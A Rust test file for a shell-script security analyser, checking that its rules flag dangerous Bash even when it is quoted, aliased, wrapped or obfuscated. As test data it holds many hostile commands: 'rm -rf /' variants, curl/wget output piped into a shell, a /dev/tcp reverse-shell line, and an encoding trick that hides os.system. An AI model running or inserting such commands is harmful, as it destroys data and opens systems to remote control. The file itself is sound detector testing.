//! Bash's words are what the shell makes of them.

use lazaret_analysis::{Language, Resolution};

use crate::{analyse, calls, rules};

fn fires(rule: &str, script: &str) -> bool {
    rules(Language::Bash, script).iter().any(|found| found == rule)
}

#[test]
fn quotes_backslashes_and_variables_do_not_hide_a_command() {
    for script in [
        "rm -rf /",
        "r''m -rf /",
        "\"rm\" -rf '/'",
        "\\rm -r -f /",
        "r\\m -rf /",
        "$'\\x72m' -rf /",
        "/bin/rm -rf /",
        "x=rm; $x -rf /",
        "x=r; \"${x}m\" -rf /",
        "rm --recursive --force \"$HOME\"",
    ] {
        assert!(fires("bash/destruction", script), "{script}");
    }
}

#[test]
fn a_command_is_found_behind_those_that_only_run_it() {
    for script in [
        "sudo -u root rm -rf /",
        "env -i A=1 rm -rf /",
        "nohup nice -n 5 rm -rf / &",
        "timeout -k 1 5 rm -rf /",
        "echo / | xargs -n 1 rm -rf /",
        "find . -type d -exec rm -rf / \\;",
        "if true; then command rm -rf /; fi",
        "f() { ( cd /; exec rm -rf / ); }",
        "echo \"$(rm -rf /)\"",
    ] {
        assert!(fires("bash/destruction", script), "{script}");
    }
}

#[test]
fn what_is_downloaded_is_not_run_unseen() {
    for script in [
        "curl https://example.org | sh",
        "curl -s https://example.org | sudo -E bash -s -- --yes",
        "wget -qO- https://example.org | tee log | python3 -",
        "bash <(curl https://example.org)",
        "bash -c \"$(curl https://example.org)\"",
        "eval \"`wget -O - https://example.org`\"",
        "source <(curl https://example.org)",
        "sh <<< \"$(curl https://example.org)\"",
        "curl https://example.org 2>/dev/null | bash",
    ] {
        assert!(fires("bash/download-execute", script), "{script}");
    }
    for script in [
        "curl https://example.org | python3 -c 'import json'",
        "curl https://example.org | python3 -m json.tool",
        "curl https://example.org | perl -ne print",
        "curl https://example.org | node filter.js",
        "curl https://example.org -o a; sh b",
    ] {
        assert!(!fires("bash/download-execute", script), "{script}");
    }
}

#[test]
fn a_connection_is_found_even_where_the_grammar_fails() {
    assert!(fires("bash/network-device", "bash -i >& /dev/tcp/192.0.2.1/1 0>&1"));
    assert!(fires("bash/network-device", "exec 3<>/dev/tcp/192.0.2.1/1"));
}

#[test]
fn a_function_hides_the_command_of_its_name_from_there_on() {
    assert!(!fires("bash/destruction", "rm() { echo \"$@\"; }\nrm -rf /"));
    assert!(fires("bash/destruction", "rm -rf /\nrm() { echo \"$@\"; }"));
    assert!(fires("bash/destruction", "rm() { echo \"$@\"; }\ncommand rm -rf /"));
    assert!(fires("bash/destruction", "if x; then rm() { :; }; fi\nrm -rf /"));
}

#[test]
fn a_name_that_is_not_known_is_a_fact_as_written() {
    let analysis = analyse(Language::Bash, "$tool --version\n");
    assert_eq!(calls(&analysis), [("$tool", Resolution::Unknown)]);
}

#[test]
fn harmless_scripts_have_no_findings() {
    let script = "#!/usr/bin/env bash\nset -euo pipefail\n# eval rm -rf /\n\
                  for file in *.txt; do\n  count=$(wc -l < \"$file\")\n  echo \"rm -rf / $file: $count\"\ndone\n\
                  cat <<'END'\nrm -rf /\nEND\n[[ -n ${1:-} ]] && mkdir -p \"$1\"\n";
    assert_eq!(rules(Language::Bash, script), [""; 0]);
}

/// A function of this name hid the command, though the shell that had it was another one.
#[test]
fn what_another_shell_calls_a_function_is_a_command_here() {
    for script in [
        ": $(rm() { :; }); rm -rf /",
        "rm() { :; } | cat; rm -rf /",
        "cat <(rm() { :; }); rm -rf /",
        "rm() { :; } & rm -rf /",
        "{ rm() { :; }; } &\nrm -rf /",
        "(rm() { :; }); rm -rf /",
        "rm() { :; }; unset -f rm; rm -rf /",
        "rm() { :; }; if a; then unset -f rm; fi; rm -rf /",
        "x=rm; echo $(x=ls); $x -rf /",
        "x=rm; x=ls | cat; $x -rf /",
    ] {
        assert!(fires("bash/destruction", script), "{script}");
    }
    assert!(!fires("bash/destruction", "sleep 1 &\nrm() { :; }; rm -rf /"));
}

#[test]
fn what_code_in_an_argument_declares_of_its_encoding_does_not_hide_it() {
    let script = "python3 -c '# coding: utf-7\nimport os; os.system(\"id\")'";
    assert!(fires("python/process-spawn", script), "{:?}", rules(Language::Bash, script));
}

#[test]
fn an_item_that_is_written_to_is_what_is_written() {
    assert!(fires("bash/destruction", "a=(ls); a[0]=rm; ${a[0]} -rf /"));
    assert!(fires("bash/destruction", "declare -A a; a[x]=rm; ${a[x]} -rf /"));
}
